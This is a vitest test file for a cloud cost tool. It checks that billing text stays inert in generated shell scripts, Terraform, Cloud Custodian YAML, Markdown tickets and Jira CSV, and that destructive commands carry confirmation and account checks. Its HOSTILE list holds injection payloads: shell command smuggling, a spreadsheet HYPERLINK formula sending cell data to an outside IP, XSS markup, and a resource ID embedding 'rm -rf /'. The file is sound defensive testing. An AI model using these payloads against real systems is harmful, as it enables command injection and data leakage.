/** Hand-over texts: whatever a bill says stays text, in a real shell, in YAML, in HCL, in Markdown and in CSV. */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { cloudThing } from '../../pipeline/contract/hand-over/cloud-thing.ts';
import { commandsOf } from '../../pipeline/contract/hand-over/commands.ts';
import { custodianOf, untaggedPolicies } from '../../pipeline/contract/hand-over/custodian.ts';
import { hclString, markdownText, shellWord, yamlString } from '../../pipeline/contract/hand-over/quote.ts';
import { type HandedRecommendation, handedRecommendation } from '../../pipeline/contract/hand-over/recommendation.ts';
import { terraformOf } from '../../pipeline/contract/hand-over/terraform.ts';
import { jiraCsv, ticketMarkdown } from '../../pipeline/contract/hand-over/ticket.ts';

const HOSTILE = [
  `'; touch pwned; echo '`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a shell and HCL must not expand
  '$(touch pwned) `touch pwned` ${HOME} %{ if true }',
  `"quoted" \\ back\\\\slash \\" '`,
  '-rf --profile=other',
  'line one\nline two\r\n# three\ttab',
  `=HYPERLINK("http://203.0.113.7/?q="&A1,"invoice")`,
  '<img src=x onerror=alert(1)> [x](javascript:alert(1)) @everyone ![](http://203.0.113.7/p.png)',
  '\u202egnp.exe \u200b\ufeff é 日本 😀 \u2028 *_~',
  '!!js/function "x": &a *a | > - ? : {',
];

const of = (values: Partial<HandedRecommendation>): HandedRecommendation => ({
  ...handedRecommendation(
    { x_RecommendationId: '0a1b2c3d4e5f', x_RecommendationKind: 'unattached-disk', x_Title: 'Disk without a machine', x_Why: 'Why', x_Do: 'Do', x_Learn: 'https://example.com/a', ServiceProviderName: 'AWS', RegionId: 'us-east-1', ResourceId: 'vol-0abc', x_Evidence: 'Seen', x_MonthlySavings: '12.50', x_ClaimedMonthlySavings: '12.50', x_Confidence: 'High', x_Effort: 'Low', x_Action: 'Delete' },
    { currency: 'USD', edition: 'e1' },
  ),
  ...values,
}); // biome-ignore format: one recommendation

const folder = mkdtempSync(join(tmpdir(), 'costbook-handover-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const SAID = `case "$1 $2" in 'sts get-caller-identity') echo 123456789012;; 'ec2 create-snapshot') echo snap-1;; 's3api get-bucket-lifecycle-configuration') return $RULES;; esac`;

/** Arguments of each call that a script makes, as a real shell hands them over; a script that ends early throws. */
function calls(script: string, environment: Readonly<Record<string, string>> = { CONFIRM: 'yes', DAY_SIZE: '4', RULES: '255' }): string[][] {
  const clouds = ['aws', 'az', 'gcloud'].map((cloud) => `${cloud}() { printf '%s\\0' ${cloud} "$@" >&3; printf '\\1' >&3; ${SAID}; }`);
  const text = execFileSync('sh', ['-c', `exec 3>&1\n${clouds.join('\n')}\n${script}`], {
    cwd: folder,
    encoding: 'utf8',
    env: { ...process.env, ...environment },
    stdio: 'pipe',
  });
  return text.split('\u0001').filter(Boolean).map((call) => call.split('\0').slice(0, -1)); // biome-ignore format: one chain
}

/** What HCL reads in a string. https://developer.hashicorp.com/terraform/language/expressions/strings#escape-sequences */
function readHcl(quoted: string): string {
  expect(quoted).toMatch(/^"(?:[^"\\\n\r]|\\[nrt"\\]|\\u[0-9a-f]{4})*"$/);
  const inner = quoted.slice(1, -1);
  expect(inner.replaceAll('$${', '').replaceAll('%%{', '')).not.toMatch(/[$%]\{/);
  return inner
    .replace(/\\(?:u([0-9a-f]{4})|(.))/g, (_, code: string | undefined, character: string) =>
      code ? String.fromCharCode(Number.parseInt(code, 16)) : ({ n: '\n', r: '\r', t: '\t' }[character] ?? character),
    )
    .replaceAll('$${', '${')
    .replaceAll('%%{', '%{');
}

describe.each(HOSTILE)('%j', (hostile) => {
  it('stays text in a shell, in HCL and in YAML', () => {
    expect(execFileSync('sh', ['-c', `printf %s ${shellWord(hostile)}`], { cwd: folder, encoding: 'utf8' })).toBe(hostile);
    expect(readHcl(hclString(hostile))).toBe(hostile);
    expect(parse(yamlString(hostile))).toBe(hostile);
    expect(parse(`key: ${yamlString(hostile)}\n`)).toEqual({ key: hostile });
  });

  it('is one argument of the commands, and nothing of their comments runs', () => {
    const name = hostile.replace(/[\n\r\t]/g, ' ');
    const group = of({
      kind: 'sleepless-test-machine',
      action: 'Schedule',
      title: hostile,
      evidence: hostile,
      region: hostile,
      resource: `arn:aws:autoscaling:r:1:autoScalingGroup:x:autoScalingGroupName/${name}`,
    });
    const script = commandsOf(group);
    if (cloudThing(group.resource) !== null) {
      const made = calls(script!);
      expect(made.map((words) => words.slice(0, 3))).toEqual(Array(2).fill(['aws', 'autoscaling', 'put-scheduled-update-group-action']));
      for (const words of made) expect(words).toEqual(expect.arrayContaining([`--region=${hostile}`, `--auto-scaling-group-name=${name}`]));
    } else expect(script).toBeNull();
    expect(readdirSync(folder)).toEqual([]);
  });

  it('is one value of the policies', () => {
    const resource = `/subscriptions/1/resourceGroups/${hostile.replace(/[/\n\r\t\u2028]/g, '')}/providers/Microsoft.Compute/disks/d`;
    const text = custodianOf([
      of({ resource, title: hostile, subAccountName: hostile, ownerEmail: hostile }),
      of({ resource, ownerEmail: 'a@example.com', subAccountName: hostile }),
    ])!;
    const { policies } = parse(text) as { policies: { name: string; filters: { value?: string[] }[]; actions: { to?: string[] }[] }[] };
    expect(policies).toHaveLength(2);
    expect(policies[0]!.name).toMatch(/^[a-z0-9-]+$/);
    expect(policies[0]!.filters.find(({ value }) => value)?.value).toEqual([resource, resource]);
    expect(policies[0]!.actions[0]!.to).toEqual(
      [hostile, 'a@example.com', 'resource-owner'].sort((a, b) => (a === 'resource-owner' ? 1 : b === 'resource-owner' ? -1 : a < b ? -1 : 1)),
    );
  });

  it('makes no markup, mention or formula in tickets', () => {
    const ticket = ticketMarkdown(
      of({ title: hostile, evidence: hostile, resource: hostile, owner: hostile, costCenter: hostile, learn: 'javascript:alert(1)' }),
    );
    expect(ticket.replace(/(`+)[^\n]*?\1/g, '')).not.toMatch(/(?<!\\)<|(?<!\\)\]\(|(?<!\\)!\[|@\w|javascript:alert\(1\)>/);
    expect(ticket.split('\n').filter((line) => line.startsWith('# '))).toHaveLength(1);
    const csv = jiraCsv([of({ title: hostile, evidence: hostile, subAccountName: hostile })]);
    for (const cell of csv.split('\n')[1]!.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@-]/);
    expect(markdownText(hostile)).not.toContain('\n');
  });
});

describe('what is written', () => {
  it('knows a bucket by its service where the bill gives its name alone', () => {
    const bucket = { kind: 'rarely-read-bucket', action: 'Configure', resource: 'lf-audit' };
    expect(commandsOf(of({ ...bucket, service: 'Amazon Simple Storage Service' }))).toContain('--bucket=lf-audit');
    expect(commandsOf(of({ ...bucket, service: 'Other' }))).toBeNull();
  });

  it('takes a snapshot before it deletes a disk', () => {
    const made = calls(commandsOf(of({}))!);
    expect(made.map((words) => words[2])).toEqual(['create-snapshot', 'wait', 'delete-volume']);
    expect(made[1]).toContain('snap-1');
    expect(terraformOf(of({}))).toContain('removed {\n  from = aws_ebs_volume.costbook_0a1b2c3d4e5f\n  lifecycle {\n    destroy = true\n  }\n}');
  });

  it.each([
    ['previous-generation-volume', 'Upgrade', 'vol-0abc', null, 'aws ec2 modify-volume --region=us-east-1 --volume-id=vol-0abc --volume-type=gp3', 'type = "gp3"'],
    ['oversized-instance', 'Resize', 'i-0abc', 'm7g.large', `modify-instance-attribute --region=us-east-1 --instance-id=i-0abc '--instance-type={"Value":"m7g.large"}'`, 'instance_type = "m7g.large"'],
    ['x86-machine', 'Migrate', 'arn:aws:rds:us-east-1:1:db:orders', 'r7g.large', '--db-instance-class=db.r7g.large', 'instance_class = "db.r7g.large"'],
    ['endless-log-retention', 'Configure', 'arn:aws:logs:us-east-1:1:log-group:/app/web', null, '--log-group-name=/app/web --retention-in-days=90', 'retention_in_days = 90'],
    ['rarely-read-bucket', 'Configure', 'arn:aws:s3:::lf-audit', null, 'put-bucket-lifecycle-configuration --bucket=lf-audit', 'aws_s3_bucket_lifecycle_configuration'],
    ['unattached-disk', 'Delete', '/subscriptions/1/resourceGroups/g/providers/Microsoft.Compute/disks/d', null, 'az disk delete --ids=/subscriptions/1/resourceGroups/g/providers/Microsoft.Compute/disks/d', 'from = azurerm_managed_disk.costbook_0a1b2c3d4e5f'],
    ['idle-public-address', 'Delete', '//compute.googleapis.com/projects/p/regions/us-central1/addresses/a', null, 'gcloud compute addresses delete --project=p --region=us-central1 -- a', 'google_compute_address'],
    ['oversized-instance', 'Resize', '/subscriptions/1/resourceGroups/g/providers/Microsoft.Compute/virtualMachines/m', 'd2as v5', '--size=Standard_D2as_v5', null],
  ])('%s of %s', (kind, action, resource, recommendedSku, command, code) => {
    const recommendation = of({ kind, action, resource, recommendedSku });
    expect(commandsOf(recommendation)).toContain(command);
    expect(calls(commandsOf(recommendation)!).length).toBeGreaterThan(0);
    if (code) expect(terraformOf(recommendation)).toContain(code);
  }); // biome-ignore format: one line, one kind

  it('deletes nothing unasked, nothing in another account, and no rules of a bucket', () => {
    const script = commandsOf(of({ subAccountId: '123456789012' }))!;
    expect(calls(script).map((words) => words[2])).toEqual(['get-caller-identity', 'create-snapshot', 'wait', 'delete-volume']);
    expect(() => calls(script, { RULES: '255' })).toThrow(/run it with CONFIRM=yes/);
    expect(() => calls(commandsOf(of({ subAccountId: '210987654321' }))!)).toThrow(/This is for account 210987654321/);
    const bucket = commandsOf(of({ kind: 'rarely-read-bucket', action: 'Configure', resource: 'arn:aws:s3:::lf-audit' }))!;
    expect(() => calls(bucket, { RULES: '0' })).toThrow(/which this would replace/);
  });

  it('a group goes off at weekends, and comes back as large as somebody says', () => {
    const group = of({ kind: 'sleepless-test-machine', action: 'Schedule', resource: 'arn:aws:autoscaling:r:1:autoScalingGroup:x:autoScalingGroupName/web' });
    const [off, on] = calls(commandsOf(group)!);
    expect([off!.includes('--min-size=0'), on!.includes('--min-size=4'), on!.includes('--recurrence=0 7 * * 1')]).toEqual([true, true, true]);
    expect(() => calls(commandsOf(group)!, {})).toThrow(/DAY_SIZE/);
    expect(terraformOf(group)).toMatch(/variable "costbook_\w+_day_size"[\s\S]*min_size +=\s0[\s\S]*desired_capacity +=\svar\.costbook_\w+_day_size/);
    expect(terraformOf(group)).not.toContain('max_size');
  });

  it('says nothing where no command would be honest', () => {
    for (const resource of [null, 'LF_ANALYTICS.ETL_WH', 'vol-0abc\nrm -rf /', '/subscriptions/1/providers/x']) expect(commandsOf(of({ resource }))).toBeNull();
    expect(terraformOf(of({ kind: 'chatty-zones', action: 'Configure', resource: null }))).toBeNull();
    expect(custodianOf([of({ action: 'Resize' }), of({ insteadOf: 'x' })])).toBeNull();
  });

  it('a machine is told of, then stopped, then terminated, with days of grace between', () => {
    const { policies } = parse(custodianOf([of({ kind: 'idle-instance', action: 'Stop', resource: 'i-0abc', subAccountName: 'prod' })])!) as {
      policies: { name: string; resource: string; actions: object[] }[];
    };
    expect(policies.map(({ name }) => name)).toEqual(['1-tell', '2-stop', '3-terminate'].map((step) => `costbook-idle-instance-aws-ec2-prod-${step}`));
    expect(policies[0]!.actions).toMatchObject([{ type: 'notify' }, { type: 'mark-for-op', op: 'stop', days: 14 }]);
    expect(policies[1]!.actions).toMatchObject([{ type: 'stop' }, { type: 'mark-for-op', op: 'terminate', days: 14 }]);
    expect(policies[2]!.actions).toEqual([{ type: 'terminate' }]);
    expect(policies[2]).toMatchObject({ filters: expect.arrayContaining([{ 'State.Name': 'stopped' }]) });
  });

  it('leaves alone what is attached again before its days of grace are over', () => {
    const { policies } = parse(custodianOf([of({})])!) as { policies: { filters: object[] }[] };
    for (const { filters } of policies) expect(filters).toContainEqual({ Attachments: [] });
  });

  it('untagged things get the same grace', () => {
    const { policies } = parse(untaggedPolicies(['team', 'a": b'])!) as { policies: { filters: object[] }[] };
    expect(policies).toHaveLength(8);
    for (const { filters } of policies) expect(filters).toContainEqual({ or: [{ 'tag:team': 'absent' }, { 'tag:a": b': 'absent' }] });
    expect(untaggedPolicies([])).toBeNull();
  });

  it('Jira reads a row a ticket', () => {
    const csv = jiraCsv([of({})]);
    expect(csv).toBe(
      'Summary,Issue Type,Priority,Labels,Description,External ID\nDisk without a machine: vol-0abc (12.50 USD a month),Task,High,costbook unattached-disk,"Seen\nResource: vol-0abc in -\nPaid by: -\nWhy: Why\nDo: Do\nEdition: e1",0a1b2c3d4e5f\n',
    );
  });

  it('the words of a recommendation are those of its row', () => {
    expect(ticketMarkdown(of({ owner: 'Ada', currentSku: 'gp2', recommendedSku: 'gp3' }))).toContain('- **Change**: `gp2` → `gp3`');
  });
});
